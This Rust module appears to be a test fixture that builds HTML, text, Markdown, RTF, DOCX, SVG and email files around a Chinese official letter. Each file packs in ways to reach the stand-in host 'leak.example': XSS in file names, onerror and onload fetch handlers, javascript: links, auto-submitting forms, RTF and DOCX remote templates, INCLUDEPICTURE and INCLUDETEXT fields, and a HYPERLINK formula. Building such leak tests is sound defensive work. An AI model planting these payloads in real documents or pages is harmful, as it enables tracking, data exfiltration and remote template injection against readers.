//! Letters that try to reach another host, in every way their formats have.

use fuhan_browser::packed;

/// The host that nothing may reach.
pub(crate) const HOST: &str = "leak.example";

/// The letter's own words, around whatever a format adds.
const TITLE: &str = "某局关于第8号建议的答复";
const BODY: &str = "2020年收入22.8亿元，比上年增长10.7%。2019年收入20.6亿元。";

/// Name and bytes of each file. A name is as hostile as its content.
pub(crate) fn files() -> Vec<(String, Vec<u8>)> {
    let name = |ending: &str| {
        format!("<img src=https:{HOST} onerror=fetch('https:{HOST}')>\u{202e}{ending}")
    };
    vec![
        (name("a.html"), page().into_bytes()),
        (name("b.txt"), text().into_bytes()),
        (name("c.md"), markdown().into_bytes()),
        (name("d.rtf"), rtf().into_bytes()),
        (name("e.docx"), docx()),
        (name("f.svg"), svg().into_bytes()),
        (name("g.eml"), mail().into_bytes()),
    ]
}

/// A saved web page with everything that a browser would load, follow, send or run.
pub(crate) fn page() -> String {
    format!(
        r##"<!-- saved from url=(0032)https://{HOST}/saved/page.html -->
<!doctype html><html><head><meta charset="utf-8"><title>{TITLE}</title>
<base href="https://{HOST}/base/">
<meta http-equiv="refresh" content="0;url=https://{HOST}/refresh">
<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">
<link rel="stylesheet" href="https://{HOST}/a.css"><link rel="prefetch" href="https://{HOST}/prefetch">
<link rel="preload" as="image" href="https://{HOST}/preload"><link rel="dns-prefetch" href="//{HOST}">
<link rel="preconnect" href="https://{HOST}"><link rel="icon" href="https://{HOST}/icon">
<style>@import url(https://{HOST}/import.css); body {{ background: url(https://{HOST}/css.png) }}
@font-face {{ font-family: a; src: url(https://{HOST}/font) }}</style>
<script src="https://{HOST}/script.js"></script><script>fetch("https://{HOST}/inline")</script>
</head><body onload="fetch('https://{HOST}/onload')" background="https://{HOST}/background">
<h1>{TITLE}</h1><p>赵一代表：</p><p>您提出的建议收悉，现答复如下。</p><p>一、基本情况</p>
<p style="background: url(https://{HOST}/style)">{BODY}</p>
<p>网址 https://{HOST}/text ，<a href="https://{HOST}/link" ping="https://{HOST}/ping">链接</a>，
<a href="javascript:fetch('https://{HOST}/javascript')">脚本</a>，<a href="data:text/html,a">数据</a></p>
<img src="https://{HOST}/img" srcset="https://{HOST}/srcset 2x" onerror="fetch('https://{HOST}/onerror')">
<picture><source srcset="https://{HOST}/source"><img src="x"></picture>
<video autoplay src="https://{HOST}/video" poster="https://{HOST}/poster"></video>
<audio autoplay src="https://{HOST}/audio"></audio><iframe src="https://{HOST}/iframe"></iframe>
<iframe srcdoc="<img src=https://{HOST}/srcdoc>"></iframe><object data="https://{HOST}/object"></object>
<embed src="https://{HOST}/embed"><form action="https://{HOST}/form"><input name="a" autofocus
onfocus="this.form.submit()"><input type="image" src="https://{HOST}/button"></form>
<svg><image href="https://{HOST}/svg" /><use href="https://{HOST}/use#a" /><script>fetch("https://{HOST}/svg-script")</script></svg>
<noscript><img src="https://{HOST}/noscript"></noscript>
<table background="https://{HOST}/table"><tr><th>年度</th><th>&lt;img src=https://{HOST}/head&gt;</th></tr>
<tr><td>2020</td><td>22.8</td></tr><tr><td>2019</td><td>=HYPERLINK("https://{HOST}/formula")</td></tr></table>
<p>某局</p><p>2021年4月2日</p></body></html>"##
    )
}

fn text() -> String {
    format!(
        "{TITLE}\n\n赵一代表：\n\n您提出的建议收悉，现答复如下。\n\n一、<img src=https://{HOST}/text>\n\n\
         {BODY}详见 https://{HOST}/plain 和 javascript:fetch('https://{HOST}/')。\n\n某局\n\n2021年4月2日\n"
    )
}

fn markdown() -> String {
    format!(
        "# {TITLE}\n\n赵一代表：\n\n您的建议收悉，现答复如下。\n\n![图](https://{HOST}/md.png)\n\n\
         {BODY}[链接](https://{HOST}/md \"a\")<img src=https://{HOST}/html>\n\n[1]: https://{HOST}/ref\n"
    )
}

fn rtf() -> String {
    let words = |words: &str| {
        words
            .encode_utf16()
            .fold(String::new(), |out, unit| out + &format!("\\u{}?", unit.cast_signed()))
    };
    format!(
        "{{\\rtf1\\ansi{{\\*\\template https://{HOST}/t.dotx}}{{\\field{{\\*\\fldinst INCLUDEPICTURE \
         \"https://{HOST}/r.png\" \\\\d}}{{\\fldrslt}}}}{{\\object\\objautlink\\objupdate{{\\*\\objclass \
         htmlfile}}{{\\*\\objdata 00}}}}{}\\par {}\\par {}\\par}}",
        words(TITLE),
        words("赵一代表："),
        words(BODY)
    )
}

fn docx() -> Vec<u8> {
    const OFFICE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    const PACKAGE: &str = "http://schemas.openxmlformats.org/package/2006";
    let relationship = |number: u32, kind: &str, target: &str, mode: &str| {
        format!(r#"<Relationship Id="r{number}" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>"#)
    };
    let relationships = |all: &[String]| {
        format!(
            r#"<Relationships xmlns="{PACKAGE}/relationships">{}</Relationships>"#,
            all.concat()
        )
    };
    let external = " TargetMode=\"External\"";
    let linked: Vec<String> = ["image", "hyperlink", "attachedTemplate", "frame", "oleObject"]
        .iter()
        .zip(1..)
        .map(|(kind, number)| {
            relationship(number, kind, &format!("https://{HOST}/{kind}"), external)
        })
        .collect();
    let paragraph = |words: &str| format!("<w:p><w:r><w:t>{words}</w:t></w:r></w:p>");
    let document = format!(
        r#"<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="{OFFICE}"
xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><w:body>{}{}<w:p><w:hyperlink r:id="r2"><w:r><w:t>{BODY}</w:t></w:r></w:hyperlink>
<w:r><w:drawing><a:blip r:link="r1"/></w:drawing></w:r><w:r><w:instrText>INCLUDETEXT "https://{HOST}/field"</w:instrText></w:r></w:p></w:body></w:document>"#,
        paragraph(TITLE),
        paragraph("赵一代表："),
    );
    let types = format!(
        r#"<Types xmlns="{PACKAGE}/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"#
    );
    let root = relationships(&[relationship(1, "officeDocument", "word/document.xml", "")]);
    packed(&[
        ("[Content_Types].xml", types.as_bytes()),
        ("_rels/.rels", root.as_bytes()),
        ("word/document.xml", document.as_bytes()),
        ("word/_rels/document.xml.rels", relationships(&linked).as_bytes()),
    ])
}

fn svg() -> String {
    format!(
        r#"<svg xmlns="http://www.w3.org/2000/svg"><image href="https://{HOST}/svg"/><script>fetch("https://{HOST}/s")</script><text>{TITLE}</text></svg>"#
    )
}

fn mail() -> String {
    format!(
        "From: a@{HOST}\nSubject: a\nDisposition-Notification-To: a@{HOST}\nMIME-Version: 1.0\n\
         Content-Type: text/html; charset=utf-8\n\n{}",
        page()
    )
}
